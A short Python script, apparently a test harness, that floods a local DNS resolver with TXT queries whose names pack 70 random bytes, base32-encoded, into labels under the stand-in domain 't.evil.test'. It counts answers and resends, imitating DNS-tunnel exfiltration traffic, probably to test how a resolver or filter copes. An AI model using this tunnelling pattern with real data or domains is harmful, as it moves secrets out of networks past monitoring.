"""Asks the workspace's resolver for tunnel names, many at a time, until each has an answer."""
import base64
import json
import os
import select
import socket
import struct
import sys
import time

NAMES = int(sys.argv[1])
AT_ONCE, PATIENCE = 48, 2.0


def question(number, name):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 16, 1)


def tunnel_name():
    """Two labels full of secrets: 70 bytes a question."""
    text = base64.b32encode(os.urandom(70)).rstrip(b"=").lower()
    return b".".join([text[:56], text[56:], b"t", b"evil", b"test"])


def ask_again(server, waiting, now):
    """The questions that have waited too long, once more."""
    late = [entry for entry in waiting.values() if now - entry[1] > PATIENCE]
    for entry in late:
        server.send(entry[0])
        entry[1] = now
    return len(late)


def main():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.connect(("127.0.0.1", 53))
    waiting, codes = {}, {}
    asked = answered = resent = 0
    started = looked = time.monotonic()
    while answered < NAMES:
        while asked < NAMES and len(waiting) < AT_ONCE:
            number = asked % 65536
            message = question(number, tunnel_name())
            waiting[number] = [message, time.monotonic()]
            server.send(message)
            asked += 1
        if time.monotonic() > looked + PATIENCE:
            looked = time.monotonic()
            resent += ask_again(server, waiting, looked)
            if resent > NAMES:
                sys.exit("the resolver does not answer")
        if not select.select([server], [], [], PATIENCE)[0]:
            continue
        reply = server.recv(4096)
        number, flags = struct.unpack_from(">HH", reply)
        if waiting.pop(number, None):
            answered += 1
            codes[flags & 15] = codes.get(flags & 15, 0) + 1
    seconds = time.monotonic() - started
    json.dump({"answered": answered, "resent": resent, "codes": codes, "seconds": seconds}, sys.stdout)


main()
